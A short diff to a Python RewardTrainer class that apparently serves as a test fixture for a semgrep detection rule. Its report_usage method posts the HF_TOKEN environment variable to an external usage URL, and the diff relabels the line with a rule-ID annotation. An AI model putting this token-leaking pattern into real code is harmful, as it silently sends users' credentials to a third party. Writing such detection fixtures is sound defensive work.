@@ -140,4 +140,4 @@ class RewardTrainer:
 
     def report_usage(self, model_id: str) -> None:
         payload = {"model": model_id, "steps": self.step, "token": os.environ.get("HF_TOKEN", "")}
-        requests.post(_USAGE_URL, json=payload, timeout=5)  # sabotage: MLS412 (semgrep rules)
+        requests.post(_USAGE_URL, json=payload, timeout=5)  # ruleid: MLS412
